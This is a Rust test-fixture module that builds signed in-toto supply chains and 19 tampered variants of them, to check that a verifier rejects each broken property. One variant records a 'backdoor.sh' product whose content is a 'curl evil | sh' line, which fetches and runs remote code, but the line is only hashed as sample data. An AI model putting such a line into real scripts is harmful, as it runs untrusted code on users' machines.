//! Classic in-toto supply chains (layout v0.9 and links), minted from a seed, and every tampered
//! variant of them, each breaking exactly one property.
//!
//! The chain has two steps and one inspection:
//!
//! * `write-code` (one functionary) creates `src/main.c` and `README.md`;
//! * `build` (one functionary, runs `make dist`) takes `src/main.c` (MATCHed with the products of
//!   `write-code`) and a `Makefile`, and creates `app.tar.gz`, the artifact shipped;
//! * the inspection `untar` would unpack `app.tar.gz`.
//!
//! Keys, signatures (canonical JSON for metablocks, PAE for DSSE) and key ids (securesystemslib's:
//! SHA-256 of the canonical key) are computed here independently of provenant's own encoder.

use serde_json::{json, Value};
use sha2::{Digest as _, Sha256, Sha512};

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;

use crate::keys::{dsse_envelope, pae, rng, KeyPair};
use crate::IN_TOTO_PAYLOAD_TYPE;

/// The layout's expiry.
pub const LAYOUT_EXPIRES: &str = "2030-01-01T00:00:00Z";
/// A verification time before [`LAYOUT_EXPIRES`] and after the expired variant's expiry.
pub const VERIFY_TIME: &str = "2026-01-01T00:00:00Z";
/// The artifact shipped (the product of `build`).
pub const ARTIFACT_NAME: &str = "app.tar.gz";
/// Its content.
pub const ARTIFACT: &[u8] = b"app.tar.gz, as built by the provenant test chain\n";

const MAIN_C: &[u8] = b"int main(void) { return 0; }\n";
const README: &[u8] = b"# app\n";
const MAKEFILE: &[u8] = b"dist:\n\ttar czf app.tar.gz src\n";

/// How the layout and links are wrapped and signed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Container {
    /// `{"signed": .., "signatures": [{"keyid", "sig": hex}]}` over canonical JSON.
    Metablock,
    /// A DSSE envelope of `application/vnd.in-toto+json`.
    Dsse,
}

/// The key algorithms of a chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum KeyChoice {
    /// Owner and `write-code` ECDSA P-256, `build` Ed25519 (securesystemslib hex key).
    Default,
    /// Owner and `write-code` RSA-PSS (`rsassa-pss-sha256`), `build` ECDSA P-384.
    Rsa,
}

/// One property of a valid chain, broken.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LayoutTamper {
    /// The `build` link is named for its functionary but signed by another key.
    ForeignLinkKey,
    /// `build` needs two functionaries (a second key is authorised) but one link exists.
    ThresholdUnmet,
    /// `write-code` records another digest for `src/main.c`, so `build`'s MATCH cannot consume it.
    ProductDigestChanged,
    /// `write-code` records an extra product its rules disallow.
    DisallowedProduct,
    /// The layout expired in 2020.
    Expired,
    /// The layout is signed by a key other than the owner's.
    ForeignLayoutKey,
    /// The layout has no signatures.
    UnsignedLayout,
    /// The `build` link file holds a link signed for the step `write-code`.
    LinkForOtherStep,
    /// The `build` link file holds a (sub)layout signed by the functionary.
    Sublayout,
    /// The shipped artifact differs from the one `build` recorded.
    ArtifactSwapped,
    /// `build` needs two functionaries; both signed, but their links record different products.
    LinksDisagree,
    /// The `build` link records another command (a warning only).
    CommandChanged,
    /// `write-code` must produce a `LICENSE` it does not have (REQUIRE).
    RequiredProductMissing,
    /// An extra `write-code` link signed with a certificate under cert_constraints (unsupported,
    /// warned about, not counted).
    CertificateLink,
    /// A layout rule that is no rule at all (`["MATCH", "*"]`).
    MalformedRule,
    /// The layout's expiry is not a time.
    ExpiryUnreadable,
    /// `build` needs two functionaries, and the layout lists the builder's key under a second key
    /// id: two links signed by one key must count once.
    SameKeyTwice,
    /// `build`'s product rules MATCH everything against the inspection `untar` (which provenant
    /// never runs), then `DISALLOW *`: the MATCH consumes nothing, so the DISALLOW fails.
    MatchFromInspection,
    /// `build` records the artifact with its true sha256 and the sha512 of other bytes: the same
    /// file cannot have both.
    ProductDigestContradiction,
}

impl LayoutTamper {
    /// Every tamper.
    pub const ALL: [LayoutTamper; 19] = [
        Self::ForeignLinkKey,
        Self::ThresholdUnmet,
        Self::ProductDigestChanged,
        Self::DisallowedProduct,
        Self::Expired,
        Self::ForeignLayoutKey,
        Self::UnsignedLayout,
        Self::LinkForOtherStep,
        Self::Sublayout,
        Self::ArtifactSwapped,
        Self::LinksDisagree,
        Self::CommandChanged,
        Self::RequiredProductMissing,
        Self::CertificateLink,
        Self::MalformedRule,
        Self::ExpiryUnreadable,
        Self::SameKeyTwice,
        Self::MatchFromInspection,
        Self::ProductDigestContradiction,
    ];
}

/// A minted chain: what a verifier is given.
#[derive(Debug, Clone)]
pub struct MintedChain {
    /// The signed layout.
    pub layout: Vec<u8>,
    /// The layout owner's public key (PEM): the `--layout-key`.
    pub owner_pem: String,
    /// The link files: (file name, bytes).
    pub links: Vec<(String, Vec<u8>)>,
    /// The artifact's file name.
    pub artifact_name: String,
    /// The artifact's bytes.
    pub artifact: Vec<u8>,
    /// The artifact's SHA-256, hex.
    pub artifact_sha256: String,
}

/// A minted chain written to a directory, as `provenant verify artifact` reads it.
#[derive(Debug, Clone)]
pub struct ChainFiles {
    /// The signed layout (`root.layout`).
    pub layout: std::path::PathBuf,
    /// The layout owner's public key (`owner.pub`).
    pub owner_key: std::path::PathBuf,
    /// The directory of the link files (`links/`).
    pub links: std::path::PathBuf,
    /// The artifact (`dist/<artifact name>`).
    pub artifact: std::path::PathBuf,
}

impl MintedChain {
    /// Write the layout, the owner's key, the links (under `links/`) and the artifact (under
    /// `dist/`) into `dir`.
    pub fn write_to(&self, dir: &std::path::Path) -> std::io::Result<ChainFiles> {
        let links = dir.join("links");
        let dist = dir.join("dist");
        std::fs::create_dir_all(&links)?;
        std::fs::create_dir_all(&dist)?;
        let files = ChainFiles {
            layout: dir.join("root.layout"),
            owner_key: dir.join("owner.pub"),
            artifact: dist.join(&self.artifact_name),
            links,
        };
        std::fs::write(&files.layout, &self.layout)?;
        std::fs::write(&files.owner_key, &self.owner_pem)?;
        std::fs::write(&files.artifact, &self.artifact)?;
        for (name, bytes) in &self.links {
            std::fs::write(files.links.join(name), bytes)?;
        }
        Ok(files)
    }
}

/// securesystemslib canonical JSON: sorted keys, no whitespace, only `"` and `\` escaped.
/// Panics on floats (fixtures have none).
pub fn canonical_json(value: &Value) -> Vec<u8> {
    fn string(s: &str, out: &mut Vec<u8>) {
        out.push(b'"');
        for b in s.bytes() {
            if b == b'"' || b == b'\\' {
                out.push(b'\\');
            }
            out.push(b);
        }
        out.push(b'"');
    }
    fn write(v: &Value, out: &mut Vec<u8>) {
        match v {
            Value::Null => out.extend_from_slice(b"null"),
            Value::Bool(b) => out.extend_from_slice(if *b { b"true" } else { b"false" }),
            Value::Number(n) => {
                assert!(!n.is_f64(), "canonical JSON has no floats");
                out.extend_from_slice(n.to_string().as_bytes());
            }
            Value::String(s) => string(s, out),
            Value::Array(items) => {
                out.push(b'[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(b',');
                    }
                    write(item, out);
                }
                out.push(b']');
            }
            Value::Object(map) => {
                let mut entries: Vec<(&String, &Value)> = map.iter().collect();
                entries.sort_by(|a, b| a.0.cmp(b.0));
                out.push(b'{');
                for (i, (k, v)) in entries.into_iter().enumerate() {
                    if i > 0 {
                        out.push(b',');
                    }
                    string(k, out);
                    out.push(b':');
                    write(v, out);
                }
                out.push(b'}');
            }
        }
    }
    let mut out = Vec::new();
    write(value, &mut out);
    out
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// The key as a layout lists it (securesystemslib format, without `keyid`): PEM for RSA and
/// ECDSA, hex for Ed25519.
pub fn intoto_key(key: &KeyPair) -> Value {
    use crate::keys::KeyAlgorithm as A;
    let (keytype, scheme, public) = match key.algorithm() {
        A::EcdsaP256 => ("ecdsa", "ecdsa-sha2-nistp256", key.public_pem()),
        A::EcdsaP384 => ("ecdsa", "ecdsa-sha2-nistp384", key.public_pem()),
        A::Ed25519 => (
            "ed25519",
            "ed25519",
            hex::encode(key.ed25519_public_bytes()),
        ),
        A::RsaPss => ("rsa", "rsassa-pss-sha256", key.public_pem()),
        A::RsaPkcs1v15 => ("rsa", "rsa-pkcs1v15-sha256", key.public_pem()),
    };
    json!({
        "keytype": keytype,
        "scheme": scheme,
        "keyid_hash_algorithms": ["sha256", "sha512"],
        "keyval": {"public": public},
    })
}

/// securesystemslib's key id: SHA-256 of the canonical JSON of [`intoto_key`].
pub fn intoto_keyid(key: &KeyPair) -> String {
    sha256_hex(&canonical_json(&intoto_key(key)))
}

/// The file name in-toto gives a link: `<step>.<keyid[..8]>.link`.
pub fn link_file_name(step: &str, key: &KeyPair) -> String {
    format!("{step}.{}.link", &intoto_keyid(key)[..8])
}

/// `body` signed by `signers` in `container`, as file bytes.
pub fn sign(body: &Value, signers: &[&KeyPair], container: Container) -> Vec<u8> {
    match container {
        Container::Metablock => {
            let message = canonical_json(body);
            let signatures: Vec<Value> = signers
                .iter()
                .map(|k| json!({"keyid": intoto_keyid(k), "sig": hex::encode(k.sign(&message))}))
                .collect();
            let mut out =
                serde_json::to_vec_pretty(&json!({"signed": body, "signatures": signatures}))
                    .expect("JSON values serialize");
            out.push(b'\n');
            out
        }
        Container::Dsse => {
            let payload = serde_json::to_vec(body).expect("JSON values serialize");
            let ids: Vec<String> = signers.iter().map(|k| intoto_keyid(k)).collect();
            let with_ids: Vec<(&KeyPair, Option<&str>)> = signers
                .iter()
                .zip(&ids)
                .map(|(k, id)| (*k, Some(id.as_str())))
                .collect();
            dsse_envelope(IN_TOTO_PAYLOAD_TYPE, &payload, &with_ids).into_bytes()
        }
    }
}

fn hashes(content: &[u8]) -> Value {
    json!({"sha256": sha256_hex(content)})
}

fn link_body(name: &str, command: &[&str], materials: Value, products: Value) -> Value {
    json!({
        "_type": "link",
        "name": name,
        "command": command,
        "materials": materials,
        "products": products,
        "byproducts": {"return-value": 0, "stdout": "", "stderr": ""},
        "environment": {},
    })
}

/// A valid two-step chain, editable before it is signed.
#[derive(Debug, Clone)]
pub struct SupplyChain {
    /// The layout owner.
    pub owner: KeyPair,
    /// The functionary of `write-code`.
    pub coder: KeyPair,
    /// The functionary of `build`.
    pub builder: KeyPair,
    /// The layout's signed body.
    pub layout: Value,
    /// The links: (file name, signed body, signer).
    pub links: Vec<(String, Value, KeyPair)>,
    /// The artifact shipped.
    pub artifact: Vec<u8>,
    /// How everything is wrapped.
    pub container: Container,
}

impl SupplyChain {
    /// The valid chain for `seed`.
    pub fn new(seed: u64, keys: KeyChoice, container: Container) -> Self {
        let (owner, coder, builder) = match keys {
            KeyChoice::Default => (
                KeyPair::p256_labelled(seed, "in-toto/owner"),
                KeyPair::p256_labelled(seed, "in-toto/coder"),
                KeyPair::ed25519_labelled(seed, "in-toto/builder"),
            ),
            KeyChoice::Rsa => (
                KeyPair::rsa_pss(seed),
                KeyPair::rsa_pss(seed.wrapping_add(1)),
                KeyPair::p384_labelled(seed, "in-toto/builder"),
            ),
        };
        let (coder_id, builder_id) = (intoto_keyid(&coder), intoto_keyid(&builder));
        let key_entry = |k: &KeyPair, id: &str| {
            let mut v = intoto_key(k);
            v["keyid"] = json!(id);
            v
        };
        let layout = json!({
            "_type": "layout",
            "expires": LAYOUT_EXPIRES,
            "readme": "provenant test supply chain",
            "keys": {
                coder_id.clone(): key_entry(&coder, &coder_id),
                builder_id.clone(): key_entry(&builder, &builder_id),
            },
            "steps": [
                {
                    "_type": "step",
                    "name": "write-code",
                    "pubkeys": [coder_id],
                    "threshold": 1,
                    "expected_command": [],
                    "expected_materials": [],
                    "expected_products": [["CREATE", "src/*"], ["ALLOW", "README.md"], ["DISALLOW", "*"]],
                },
                {
                    "_type": "step",
                    "name": "build",
                    "pubkeys": [builder_id],
                    "threshold": 1,
                    "expected_command": ["make", "dist"],
                    "expected_materials": [
                        ["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "write-code"],
                        ["ALLOW", "Makefile"],
                        ["DISALLOW", "*"],
                    ],
                    "expected_products": [["CREATE", ARTIFACT_NAME], ["DISALLOW", "*"]],
                },
            ],
            "inspect": [
                {
                    "_type": "inspection",
                    "name": "untar",
                    "run": ["tar", "xzf", ARTIFACT_NAME],
                    "expected_materials": [
                        ["MATCH", ARTIFACT_NAME, "WITH", "PRODUCTS", "FROM", "build"],
                        ["DISALLOW", ARTIFACT_NAME],
                    ],
                    "expected_products": [
                        ["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "write-code"],
                        ["ALLOW", ARTIFACT_NAME],
                        ["DISALLOW", "*"],
                    ],
                },
            ],
        });
        let write_code = link_body(
            "write-code",
            &[],
            json!({}),
            json!({"src/main.c": hashes(MAIN_C), "README.md": hashes(README)}),
        );
        let build = link_body(
            "build",
            &["make", "dist"],
            json!({"src/main.c": hashes(MAIN_C), "Makefile": hashes(MAKEFILE)}),
            json!({ARTIFACT_NAME: hashes(ARTIFACT)}),
        );
        let links = vec![
            (
                link_file_name("write-code", &coder),
                write_code,
                coder.clone(),
            ),
            (link_file_name("build", &builder), build, builder.clone()),
        ];
        Self {
            owner,
            coder,
            builder,
            layout,
            links,
            artifact: ARTIFACT.to_vec(),
            container,
        }
    }

    /// Sign the layout (by the owner) and every link (by its signer).
    pub fn mint(&self) -> MintedChain {
        self.mint_with_layout_signers(&[&self.owner])
    }

    fn mint_with_layout_signers(&self, signers: &[&KeyPair]) -> MintedChain {
        MintedChain {
            layout: sign(&self.layout, signers, self.container),
            owner_pem: self.owner.public_pem(),
            links: self
                .links
                .iter()
                .map(|(file, body, key)| (file.clone(), sign(body, &[key], self.container)))
                .collect(),
            artifact_name: ARTIFACT_NAME.to_owned(),
            artifact: self.artifact.clone(),
            artifact_sha256: sha256_hex(&self.artifact),
        }
    }

    fn build_link(&mut self) -> &mut Value {
        &mut self.links[1].1
    }

    /// List `key` in the layout and authorise it for `build`.
    fn authorise_builder(&mut self, key: &KeyPair) {
        let id = intoto_keyid(key);
        let mut entry = intoto_key(key);
        entry["keyid"] = json!(id);
        self.layout["keys"][&id] = entry;
        self.layout["steps"][1]["pubkeys"]
            .as_array_mut()
            .expect("pubkeys is an array")
            .push(json!(id));
    }

    /// Add a second authorised functionary to `build` and require both.
    fn second_builder(&mut self, seed: u64) -> KeyPair {
        let second = KeyPair::p256_labelled(seed, "in-toto/second-builder");
        self.authorise_builder(&second);
        self.layout["steps"][1]["threshold"] = json!(2);
        second
    }

    /// Authorise `n` more functionaries for `build` (threshold unchanged) and return the link
    /// file names each would sign: a verifier must look at every one of them.
    pub fn extra_builders(&mut self, seed: u64, n: usize) -> Vec<String> {
        (0..n)
            .map(|i| {
                let key = KeyPair::p256_labelled(seed, &format!("in-toto/extra-builder-{i}"));
                self.authorise_builder(&key);
                link_file_name("build", &key)
            })
            .collect()
    }

    /// The chain of `seed` with `tamper` applied, signed.
    pub fn tampered(seed: u64, container: Container, tamper: LayoutTamper) -> MintedChain {
        let mut chain = Self::new(seed, KeyChoice::Default, container);
        match tamper {
            LayoutTamper::ForeignLinkKey => {
                chain.links[1].2 = KeyPair::ed25519_labelled(seed, "in-toto/intruder");
            }
            LayoutTamper::ThresholdUnmet => {
                chain.second_builder(seed);
            }
            LayoutTamper::ProductDigestChanged => {
                chain.links[0].1["products"]["src/main.c"] =
                    hashes(b"int main(void) { evil(); }\n");
            }
            LayoutTamper::DisallowedProduct => {
                chain.links[0].1["products"]["backdoor.sh"] = hashes(b"curl evil | sh\n");
            }
            LayoutTamper::Expired => chain.layout["expires"] = json!("2020-01-01T00:00:00Z"),
            LayoutTamper::ForeignLayoutKey => {
                let other = KeyPair::p256_labelled(seed, "in-toto/impostor");
                return chain.mint_with_layout_signers(&[&other]);
            }
            LayoutTamper::UnsignedLayout => return chain.mint_with_layout_signers(&[]),
            LayoutTamper::LinkForOtherStep => chain.build_link()["name"] = json!("write-code"),
            LayoutTamper::Sublayout => {
                let mut sublayout = chain.layout.clone();
                sublayout["steps"] = json!([]);
                sublayout["inspect"] = json!([]);
                chain.links[1].1 = sublayout;
            }
            LayoutTamper::ArtifactSwapped => chain.artifact = b"a different app.tar.gz\n".to_vec(),
            LayoutTamper::LinksDisagree => {
                let second = chain.second_builder(seed);
                let mut other = chain.links[1].1.clone();
                other["products"][ARTIFACT_NAME] = hashes(b"another build\n");
                chain
                    .links
                    .push((link_file_name("build", &second), other, second));
            }
            LayoutTamper::CommandChanged => {
                chain.build_link()["command"] = json!(["make", "dist", "EXTRA=1"]);
            }
            LayoutTamper::RequiredProductMissing => {
                chain.layout["steps"][0]["expected_products"]
                    .as_array_mut()
                    .expect("rules are an array")
                    .insert(0, json!(["REQUIRE", "LICENSE"]));
            }
            LayoutTamper::CertificateLink => {
                chain.layout["steps"][0]["cert_constraints"] = json!([{
                    "common_name": "write-code.example.com",
                    "dns_names": [], "emails": [], "organizations": ["*"], "roots": ["*"], "uris": [],
                }]);
                let signer = KeyPair::p256_labelled(seed, "in-toto/certified");
                let body = chain.links[0].1.clone();
                let message = canonical_json(&body);
                let file = serde_json::to_vec_pretty(&json!({
                    "signed": body,
                    "signatures": [{
                        "keyid": "0123abcd".repeat(8),
                        "sig": hex::encode(signer.sign(&message)),
                        "cert": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
                    }],
                }))
                .expect("JSON values serialize");
                let mut minted = chain.mint();
                minted.links.push(("write-code.0123abcd.link".into(), file));
                return minted;
            }
            LayoutTamper::MalformedRule => {
                chain.layout["steps"][1]["expected_materials"] = json!([["MATCH", "*"]]);
            }
            LayoutTamper::ExpiryUnreadable => chain.layout["expires"] = json!("next year"),
            LayoutTamper::MatchFromInspection => {
                chain.layout["steps"][1]["expected_products"] = json!([
                    ["MATCH", "*", "WITH", "PRODUCTS", "FROM", "untar"],
                    ["DISALLOW", "*"],
                ]);
            }
            LayoutTamper::ProductDigestContradiction => {
                chain.build_link()["products"][ARTIFACT_NAME]["sha512"] =
                    json!(hex::encode(Sha512::digest(b"other bytes")));
            }
            LayoutTamper::SameKeyTwice => {
                let alias = format!("ffffffff{}", &intoto_keyid(&chain.builder)[8..]);
                let mut entry = intoto_key(&chain.builder);
                entry["keyid"] = json!(alias);
                chain.layout["keys"][&alias] = entry;
                chain.layout["steps"][1]["pubkeys"]
                    .as_array_mut()
                    .expect("pubkeys is an array")
                    .push(json!(alias));
                chain.layout["steps"][1]["threshold"] = json!(2);
                let (_, body, key) = chain.links[1].clone();
                chain.links.push(("build.ffffffff.link".into(), body, key));
            }
        }
        chain.mint()
    }
}

/// An RSA-2048 key that signs RSA-PSS (SHA-256) with the maximal salt, as Go's `crypto/rsa` does
/// by default; in-toto verifiers accept any salt length.
#[derive(Debug, Clone)]
pub struct MaxSaltRsa {
    key: rsa::RsaPrivateKey,
    label: String,
}

impl MaxSaltRsa {
    /// The key for `seed` and `label`.
    pub fn new(seed: u64, label: &str) -> Self {
        let key = rsa::RsaPrivateKey::new(&mut rng(seed, label), 2048)
            .expect("RSA-2048 generation from a seeded RNG succeeds");
        Self {
            key,
            label: label.to_owned(),
        }
    }

    /// The public key, PEM.
    pub fn public_pem(&self) -> String {
        use rsa::pkcs8::EncodePublicKey as _;
        self.key
            .to_public_key()
            .to_public_key_pem(rsa::pkcs8::LineEnding::LF)
            .expect("RSA public keys encode")
    }

    fn intoto_key(&self) -> Value {
        json!({
            "keytype": "rsa",
            "scheme": "rsassa-pss-sha256",
            "keyid_hash_algorithms": ["sha256", "sha512"],
            "keyval": {"public": self.public_pem()},
        })
    }

    fn keyid(&self) -> String {
        sha256_hex(&canonical_json(&self.intoto_key()))
    }

    fn sign(&self, message: &[u8]) -> Vec<u8> {
        use rsa::signature::{RandomizedSigner as _, SignatureEncoding as _};
        // emLen - hLen - 2 for a 2048-bit modulus and SHA-256.
        let signer =
            rsa::pss::SigningKey::<Sha256>::new_with_salt_len(self.key.clone(), 256 - 32 - 2);
        let mut salt_rng = rng(0, &format!("{}/{}", self.label, sha256_hex(message)));
        signer.sign_with_rng(&mut salt_rng, message).to_vec()
    }

    fn sign_document(&self, body: &Value, container: Container) -> Vec<u8> {
        match container {
            Container::Metablock => {
                let sig = self.sign(&canonical_json(body));
                serde_json::to_vec_pretty(&json!({
                    "signed": body,
                    "signatures": [{"keyid": self.keyid(), "sig": hex::encode(sig)}],
                }))
                .expect("JSON values serialize")
            }
            Container::Dsse => {
                let payload = serde_json::to_vec(body).expect("JSON values serialize");
                let sig = self.sign(&pae(IN_TOTO_PAYLOAD_TYPE, &payload));
                serde_json::to_vec_pretty(&json!({
                    "payloadType": IN_TOTO_PAYLOAD_TYPE,
                    "payload": STANDARD.encode(&payload),
                    "signatures": [{"keyid": self.keyid(), "sig": STANDARD.encode(sig)}],
                }))
                .expect("JSON values serialize")
            }
        }
    }
}

/// The chain of `seed` with the layout owner and the `write-code` functionary signing RSA-PSS
/// with the maximal salt (the owner's key is in [`MintedChain::owner_pem`]).
pub fn max_salt_chain(seed: u64, container: Container) -> MintedChain {
    let owner = MaxSaltRsa::new(seed, "in-toto/max-salt-owner");
    let coder = MaxSaltRsa::new(seed, "in-toto/max-salt-coder");
    let mut chain = SupplyChain::new(seed, KeyChoice::Default, container);
    let (old, new) = (intoto_keyid(&chain.coder), coder.keyid());
    let mut entry = coder.intoto_key();
    entry["keyid"] = json!(new);
    let keys = chain.layout["keys"]
        .as_object_mut()
        .expect("keys is an object");
    keys.remove(&old);
    keys.insert(new.clone(), entry);
    chain.layout["steps"][0]["pubkeys"] = json!([new]);
    let mut minted = chain.mint();
    minted.layout = owner.sign_document(&chain.layout, container);
    minted.owner_pem = owner.public_pem();
    minted.links[0] = (
        format!("write-code.{}.link", &new[..8]),
        coder.sign_document(&chain.links[0].1, container),
    );
    minted
}
